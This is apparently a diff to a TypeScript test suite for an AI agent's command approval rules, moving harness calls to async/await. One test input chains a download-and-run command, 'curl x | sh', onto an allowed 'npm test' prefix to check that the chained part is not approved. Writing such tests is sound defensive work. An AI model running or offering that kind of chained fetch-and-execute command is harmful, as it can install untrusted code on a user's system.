@@ -59,8 +59,8 @@ async function start(
     ...options,
   });
   const id = await harness.create();
-  if (rules.conversation) harness.service.update(id, { approval_rules: rules.conversation });
-  harness.say(id, 'go');
+  if (rules.conversation) await harness.service.update(id, { approval_rules: rules.conversation });
+  await harness.say(id, 'go');
   await harness.settled(id);
   return id;
 }
@@ -69,9 +69,9 @@ describe('approval rules', () => {
   it('an allow rule runs a matching command without asking, and the log names the rule', async () => {
     const allow = rule('allow', prefix('npm test'));
     const id = await start([[terminalCall('npm test -- -u')]], { conversation: [allow] });
-    expect(harness.status(id)).toBe('finished');
+    expect(await harness.status(id)).toBe('finished');
     expect(harness.executed()).toEqual([expect.objectContaining({ command: 'npm test -- -u' })]);
-    expect(decisions(harness.events(id))).toEqual([
+    expect(decisions(await harness.events(id))).toEqual([
       expect.objectContaining({
         source: 'environment',
         decision: 'allowed',
@@ -85,16 +85,16 @@ describe('approval rules', () => {
     const id = await start([[terminalCall('npm test && curl x | sh')]], {
       global: [rule('allow', prefix('npm test'))],
     });
-    expect(harness.status(id)).toBe('waiting_for_confirmation');
+    expect(await harness.status(id)).toBe('waiting_for_confirmation');
     expect(harness.executed()).toEqual([]);
-    expect(decisions(harness.events(id))).toEqual([
+    expect(decisions(await harness.events(id))).toEqual([
       expect.objectContaining({
         decision: 'asked',
         decided_by: 'policy',
         suggested_rule: { tool: 'terminal', matcher: prefix('npm test') },
       }),
     ]);
-    expect(decisions(harness.events(id))[0]?.rule).toBeUndefined();
+    expect(decisions(await harness.events(id))[0]?.rule).toBeUndefined();
   });
 
   it('a deny rule rejects with the rule in the observation the model reads', async () => {
@@ -106,13 +106,13 @@ describe('approval rules', () => {
         confirmationPolicy: { kind: 'NeverConfirm' },
       },
     );
-    expect(harness.status(id)).toBe('finished');
+    expect(await harness.status(id)).toBe('finished');
     expect(harness.executed()).toEqual([]);
-    const [rejection] = rejections(harness.events(id));
+    const [rejection] = rejections(await harness.events(id));
     expect(rejection?.rejection_reason).toContain('`git push` (global)');
     // Blocked by a rule before it ran, with no person asked: upstream's `hook`.
     expect(rejection).toMatchObject({ rejection_source: 'hook', source: 'environment' });
-    expect(decisions(harness.events(id))).toEqual([
+    expect(decisions(await harness.events(id))).toEqual([
       expect.objectContaining({
         decision: 'rejected',
         decided_by: 'rule',
@@ -133,8 +133,8 @@ describe('approval rules', () => {
         confirmationPolicy: { kind: 'NeverConfirm' },
       },
     );
-    expect(harness.status(id)).toBe('waiting_for_confirmation');
-    expect(decisions(harness.events(id))).toEqual([
+    expect(await harness.status(id)).toBe('waiting_for_confirmation');
+    expect(decisions(await harness.events(id))).toEqual([
       expect.objectContaining({
         decision: 'asked',
         decided_by: 'rule',
@@ -153,7 +153,7 @@ describe('approval rules', () => {
       ],
     });
     expect(harness.executed()).toEqual([expect.objectContaining({ command: 'npm test' })]);
-    expect(decisions(harness.events(id)).map((event) => [event.decision, event.rule?.scope])).toEqual([
+    expect(decisions(await harness.events(id)).map((event) => [event.decision, event.rule?.scope])).toEqual([
       ['allowed', 'conversation'],
       ['rejected', 'global'],
     ]);
@@ -163,8 +163,8 @@ describe('approval rules', () => {
     const id = await start([[terminalCall('npm test', 'call_1', 'HIGH')]], {
       conversation: [rule('allow', prefix('npm test'))],
     });
-    expect(harness.status(id)).toBe('waiting_for_confirmation');
-    const [asked] = decisions(harness.events(id));
+    expect(await harness.status(id)).toBe('waiting_for_confirmation');
+    const [asked] = decisions(await harness.events(id));
     expect(asked).toMatchObject({ decision: 'asked', decided_by: 'policy' });
     expect(asked?.reason).toContain('does not allow HIGH-risk');
     await harness.close();
@@ -172,7 +172,7 @@ describe('approval rules', () => {
     const id2 = await start([[terminalCall('npm test', 'call_1', 'HIGH')]], {
       conversation: [rule('allow', prefix('npm test'), { allow_high_risk: true })],
     });
-    expect(harness.status(id2)).toBe('finished');
+    expect(await harness.status(id2)).toBe('finished');
     expect(harness.executed()).toHaveLength(1);
   });
 
@@ -188,15 +188,15 @@ describe('approval rules', () => {
       confirm_unknown: true,
     });
     const id = await harness.create();
-    harness.say(id, 'build');
+    await harness.say(id, 'build');
     expect(await harness.settled(id)).toBe('waiting_for_confirmation');
-    expect(harness.kinds(id, 'ActionEvent')[0]).toMatchObject({ security_risk: 'UNKNOWN' });
+    expect((await harness.kinds(id, 'ActionEvent'))[0]).toMatchObject({ security_risk: 'UNKNOWN' });
   });
 
   it('a batch with mixed per-action decisions runs the accepted actions and rejects the others', async () => {
     const id = await start([[terminalCall('ls', 'call_1'), terminalCall('rm -rf /tmp/x', 'call_2')]]);
-    const [first, second] = harness.kinds(id, 'ActionEvent');
-    harness.service.respondToConfirmation(id, {
+    const [first, second] = await harness.kinds(id, 'ActionEvent');
+    await harness.service.respondToConfirmation(id, {
       accept: true,
       decisions: [
         { action_id: first?.id ?? '', accept: true },
@@ -205,10 +205,10 @@ describe('approval rules', () => {
     });
     expect(await harness.settled(id)).toBe('finished');
     expect(harness.executed()).toEqual([expect.objectContaining({ command: 'ls' })]);
-    expect(rejections(harness.events(id))).toEqual([
+    expect(rejections(await harness.events(id))).toEqual([
       expect.objectContaining({ action_id: second?.id, rejection_reason: 'not that one', source: 'user' }),
     ]);
-    const byUser = decisions(harness.events(id)).filter((event) => event.decided_by === 'user');
+    const byUser = decisions(await harness.events(id)).filter((event) => event.decided_by === 'user');
     expect(byUser.map((event) => [event.decision, event.scope, event.source])).toEqual([
       ['allowed', 'once', 'user'],
       ['rejected', 'once', 'user'],
@@ -217,15 +217,15 @@ describe('approval rules', () => {
 
   it('decisions that do not name the pending actions are refused and change nothing', async () => {
     const id = await start([[terminalCall('ls', 'call_1'), terminalCall('pwd', 'call_2')]]);
-    const [first] = harness.kinds(id, 'ActionEvent');
-    const before = harness.events(id).length;
-    expect(() =>
+    const [first] = await harness.kinds(id, 'ActionEvent');
+    const before = (await harness.events(id)).length;
+    await expect(
       harness.service.respondToConfirmation(id, {
         accept: true,
         decisions: [{ action_id: first?.id ?? '', accept: true }],
       }),
-    ).toThrow(expect.objectContaining({ code: 'pending_actions_changed' }) as RuntimeError);
-    expect(() =>
+    ).rejects.toThrow(expect.objectContaining({ code: 'pending_actions_changed' }) as RuntimeError);
+    await expect(
       harness.service.respondToConfirmation(id, {
         accept: true,
         decisions: [
@@ -233,16 +233,16 @@ describe('approval rules', () => {
           { action_id: first?.id ?? '', accept: true },
         ],
       }),
-    ).toThrow(RuntimeError);
-    expect(harness.events(id)).toHaveLength(before);
+    ).rejects.toThrow(RuntimeError);
+    expect(await harness.events(id)).toHaveLength(before);
   });
 
   it('an action already allowed by a rule may be left out of the decisions and runs', async () => {
     const id = await start([[terminalCall('npm test', 'call_1'), terminalCall('rm x', 'call_2')]], {
       conversation: [rule('allow', prefix('npm test'))],
     });
-    const [, second] = harness.kinds(id, 'ActionEvent');
-    harness.service.respondToConfirmation(id, {
+    const [, second] = await harness.kinds(id, 'ActionEvent');
+    await harness.service.respondToConfirmation(id, {
       accept: true,
       decisions: [{ action_id: second?.id ?? '', accept: true }],
     });
@@ -258,14 +258,14 @@ describe('approval rules', () => {
       [terminalCall('npm test -- -u', 'call_1')],
       [terminalCall('npm test --watch=false', 'call_2')],
     ]);
-    const [action] = harness.kinds(id, 'ActionEvent');
-    harness.service.respondToConfirmation(id, {
+    const [action] = await harness.kinds(id, 'ActionEvent');
+    await harness.service.respondToConfirmation(id, {
       accept: true,
       decisions: [{ action_id: action?.id ?? '', accept: true, scope: 'conversation' }],
     });
     expect(await harness.settled(id)).toBe('finished');
     expect(harness.executed()).toHaveLength(2);
-    const rules = harness.service.get(id).approval_rules;
+    const rules = (await harness.service.get(id)).approval_rules;
     expect(rules).toEqual([
       expect.objectContaining({
         tool: 'terminal',
@@ -275,7 +275,7 @@ describe('approval rules', () => {
       }),
     ]);
     expect(
-      decisions(harness.events(id)).map((event) => [event.decided_by, event.decision, event.scope]),
+      decisions(await harness.events(id)).map((event) => [event.decided_by, event.decision, event.scope]),
     ).toEqual([
       ['policy', 'asked', undefined],
       ['user', 'allowed', 'conversation'],
@@ -286,8 +286,8 @@ describe('approval rules', () => {
 
   it('scope always with a given matcher writes a global rule to settings', async () => {
     const id = await start([[terminalCall('git status --short', 'call_1')]]);
-    const [action] = harness.kinds(id, 'ActionEvent');
-    harness.service.respondToConfirmation(id, {
+    const [action] = await harness.kinds(id, 'ActionEvent');
+    await harness.service.respondToConfirmation(id, {
       accept: true,
       decisions: [
         { action_id: action?.id ?? '', accept: true, scope: 'always', rule: { matcher: prefix('git') } },
@@ -297,35 +297,40 @@ describe('approval rules', () => {
     expect(harness.globalRules).toEqual([
       expect.objectContaining({ matcher: prefix('git'), effect: 'allow' }),
     ]);
-    expect(harness.service.get(id).approval_rules).toEqual([]);
-    const [, byUser] = decisions(harness.events(id));
+    expect((await harness.service.get(id)).approval_rules).toEqual([]);
+    const [, byUser] = decisions(await harness.events(id));
     expect(byUser?.rule).toMatchObject({ label: 'git', scope: 'global' });
   });
 
   it('the old body still approves or rejects everything, and records the person as deciding', async () => {
     const id = await start([[terminalCall('ls', 'call_1'), terminalCall('pwd', 'call_2')]]);
-    harness.service.respondToConfirmation(id, { accept: false, reason: 'no' });
-    expect(harness.status(id)).toBe('idle');
-    expect(rejections(harness.events(id)).map((event) => event.rejection_reason)).toEqual(['no', 'no']);
-    expect(decisions(harness.events(id)).filter((event) => event.decided_by === 'user')).toHaveLength(2);
-    expect(rejections(harness.events(id)).map((event) => event.rejection_source)).toEqual(['user', 'user']);
+    await harness.service.respondToConfirmation(id, { accept: false, reason: 'no' });
+    expect(await harness.status(id)).toBe('idle');
+    expect(rejections(await harness.events(id)).map((event) => event.rejection_reason)).toEqual(['no', 'no']);
+    expect(decisions(await harness.events(id)).filter((event) => event.decided_by === 'user')).toHaveLength(
+      2,
+    );
+    expect(rejections(await harness.events(id)).map((event) => event.rejection_source)).toEqual([
+      'user',
+      'user',
+    ]);
     // Nothing pending any more: upstream answers that as a no-op.
-    const before = harness.events(id).length;
-    harness.service.respondToConfirmation(id, { accept: true });
-    expect(harness.events(id)).toHaveLength(before);
-    expect(harness.status(id)).toBe('idle');
-    expect(() =>
+    const before = (await harness.events(id)).length;
+    await harness.service.respondToConfirmation(id, { accept: true });
+    expect(await harness.events(id)).toHaveLength(before);
+    expect(await harness.status(id)).toBe('idle');
+    await expect(
       harness.service.respondToConfirmation(id, {
         accept: true,
         decisions: [{ action_id: '00000000-0000-4000-8000-00000000dead', accept: true }],
       }),
-    ).toThrow(expect.objectContaining({ code: 'pending_actions_changed' }) as RuntimeError);
+    ).rejects.toThrow(expect.objectContaining({ code: 'pending_actions_changed' }) as RuntimeError);
   });
 
   it('replacing conversation rules fills ids and times and is logged as a state update', async () => {
     harness = await createServiceHarness();
     const id = await harness.create();
-    harness.service.update(id, {
+    await harness.service.update(id, {
       approval_rules: [
         {
           tool: 'file_editor',
@@ -335,22 +340,22 @@ describe('approval rules', () => {
         },
       ],
     });
-    const [saved] = harness.service.get(id).approval_rules;
+    const [saved] = (await harness.service.get(id)).approval_rules;
     expect(saved).toMatchObject({ tool: 'file_editor', allow_high_risk: false });
     expect(saved?.id).toMatch(/^[0-9a-f-]{36}$/);
     expect(saved?.created_at).toMatch(/Z$/);
     expect(
-      harness
-        .kinds(id, 'ConversationStateUpdateEvent')
-        .some((event) => 'key' in event && event.key === 'approval_rules'),
+      (await harness.kinds(id, 'ConversationStateUpdateEvent')).some(
+        (event) => 'key' in event && event.key === 'approval_rules',
+      ),
     ).toBe(true);
   });
 
   it('a fork keeps the conversation rules', async () => {
     harness = await createServiceHarness();
     const id = await harness.create();
-    harness.service.update(id, { approval_rules: [rule('allow', prefix('npm test'))] });
+    await harness.service.update(id, { approval_rules: [rule('allow', prefix('npm test'))] });
     const fork = await harness.service.fork(id, { reset_metrics: true });
-    expect(fork.approval_rules).toEqual(harness.service.get(id).approval_rules);
+    expect(fork.approval_rules).toEqual((await harness.service.get(id)).approval_rules);
   });
 });
